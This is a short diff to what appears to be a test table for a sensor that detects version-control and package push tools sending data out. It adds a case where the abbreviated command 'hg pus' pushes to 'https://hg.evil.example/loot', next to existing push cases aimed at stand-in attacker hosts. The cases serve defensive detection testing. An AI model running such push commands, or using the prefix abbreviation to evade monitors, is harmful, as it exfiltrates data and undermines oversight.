@@ -202,6 +202,7 @@ describe('push tools, each recognised as the sensors see it', () => {
       'nuget.evil.example',
     ],
     ['hg push', '/usr/bin/hg', 'push https://hg.evil.example/loot', 'hg', 'hg.evil.example'],
+    ['hg pus (a prefix hg runs as push)', '/usr/bin/hg', 'pus https://hg.evil.example/loot', 'hg', 'hg.evil.example'],
     [
       'svn import',
       '/usr/bin/svn',
